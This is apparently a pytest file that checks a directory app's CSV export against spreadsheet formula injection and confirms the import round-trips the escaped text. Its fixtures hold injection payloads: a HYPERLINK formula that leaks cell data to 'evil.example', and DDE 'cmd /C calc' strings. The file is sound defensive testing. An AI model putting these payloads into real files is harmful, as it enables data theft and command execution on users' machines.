"""`lead export hsds3-csv` never writes a cell a spreadsheet would run: text starting with =, +, -, @, a tab
or a carriage return (from an import or a provider's edit) is written behind a leading apostrophe, numbers
stay numbers, and our own import reads the text back as it was."""
from __future__ import annotations

import csv
import json
import uuid
from pathlib import Path

import pytest

from directory import hsds_tables
from directory.store import Store
from ingest import pipeline
from ingest.geocode import Geocoder
from tests.conftest import ROOT

pytestmark = pytest.mark.es
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "organization_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for beds")',
    "service_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "location_name": "-2+3",
    "address_2": "+1+cmd|' /C calc'!A0",
    "description": "\t=1+1 sample description",
    "required_documents": "\r=2+5",
}
EDITED = {"service.description": "=HYPERLINK(\"http://evil.example\",\"edited\")",
          "service.eligibility_description": "@SUM(A1:A9)", "hours_text": "Mo-Fr 09:00-17:00"}
SAFE_TEXT = ("'Til Dawn Shelter", "''=already quoted", "2 + 2 beds")


def hostile_sheet(folder: Path) -> Path:
    """The seed's first row with its texts replaced by formulas, as another listing."""
    with (ROOT / "seed_data" / "lead_hartford_new_haven_sample.csv").open(encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        row, header = next(reader), reader.fieldnames
    row.update(HOSTILE, listing_id="formula-1", organization_id="org-formula", service_id="svc-formula",
               location_id="loc-formula")
    second = {**row, "listing_id": "formula-2", "organization_id": "org-quoted", "organization_name": "Quoted Texts Inc",
              "service_id": "svc-formula-2", "service_name": SAFE_TEXT[0], "description": SAFE_TEXT[1],
              "location_id": "loc-quoted", "location_name": SAFE_TEXT[2], "address_1": "200 Park Street",
              "address_2": "", "latitude": "41.7601", "longitude": "-72.6902"}
    path = folder / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=header)
        writer.writeheader()
        writer.writerows([row, second])
    return path


def cells(folder: Path):
    """(table, column, type, cell) for every cell written."""
    package = json.loads((folder / "datapackage.json").read_text())
    for resource in package["resources"]:
        kinds = {f["name"]: f["type"] for f in resource["schema"]["fields"]}
        with (folder / resource["path"]).open(encoding="utf-8", newline="") as fh:
            for row in csv.DictReader(fh):
                for column, value in row.items():
                    yield resource["path"], column, kinds[column], value


@pytest.fixture
def fresh_store(es, settings):
    other = Store(es, settings.with_(index_prefix=f"{settings.index_prefix}-again{uuid.uuid4().hex[:4]}"))
    other.ensure_indices()
    yield other
    other.drop_everything()


def test_no_exported_cell_would_run_as_a_formula_and_the_import_reads_them_back(app, store, fresh_store, tmp_path):
    sheet = hostile_sheet(tmp_path)
    pipeline.run([f"seed:{ROOT / 'seed_data'}", f"provider:{sheet}"], store, Geocoder(), samples=True)
    store.edit("seed-00001", EDITED, actor="provider-a")
    out = tmp_path / "out"
    assert app.test_cli_runner().invoke(args=["export", "hsds3-csv", str(out)]).exit_code == 0
    running, numbers = [], 0
    for table, column, kind, value in cells(out):
        if kind == "number" and value:
            float(value)  # a number column holds numbers only (negative longitudes stay numbers)
            numbers += 1
        elif value.startswith(TRIGGERS):
            running.append((table, column, value))
    assert numbers > 100 and not running, running[:10]
    written = {v for _t, _c, _k, v in cells(out)}
    assert "'" + HOSTILE["location_name"] in written and "'" + EDITED["service.description"] in written
    assert SAFE_TEXT[0] in written and SAFE_TEXT[2] in written  # harmless text is left alone
    # Our own import takes the apostrophe off again: the same texts come back.
    pipeline.run([f"hsds3-csv:{out}"], fresh_store, Geocoder(), samples=True)
    again = {r["id"]: r for r in fresh_store.listings.records()}
    before = next(r for r in store.listings.records() if r["service"]["name"] == HOSTILE["service_name"])
    hostile = next(r for r in again.values() if r["service"]["name"] == HOSTILE["service_name"])
    assert hostile["organization"]["name"] == HOSTILE["organization_name"]
    assert hostile["location"]["name"] == HOSTILE["location_name"]
    for section, key in (("service", "description"), ("location", "address_2"), ("organization", "name")):
        assert hostile[section].get(key) == before[section].get(key), key
    assert hostile["required_documents"] == before["required_documents"]
    assert again["seed-00001"]["service"]["description"] == EDITED["service.description"]
    assert again["seed-00001"]["service"]["eligibility_description"] == EDITED["service.eligibility_description"]
    harmless = next(r for r in again.values() if r["service"]["name"] == SAFE_TEXT[0])
    assert harmless["service"]["description"] == SAFE_TEXT[1] and harmless["location"]["name"] == SAFE_TEXT[2]


def test_the_cell_rule():
    for value in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert hsds_tables.text_cell(value) == "'" + value
        assert hsds_tables.read_text_cell(hsds_tables.text_cell(value)) == value
    for value in ("plain", "'Til Dawn", "2 + 2", "", "é=1"):
        assert hsds_tables.text_cell(value) == value
        assert hsds_tables.read_text_cell(value) == value
    assert hsds_tables.read_text_cell(hsds_tables.text_cell("'=x")) == "'=x"
    assert hsds_tables.read_text_cell(hsds_tables.text_cell("''x")) == "''x"
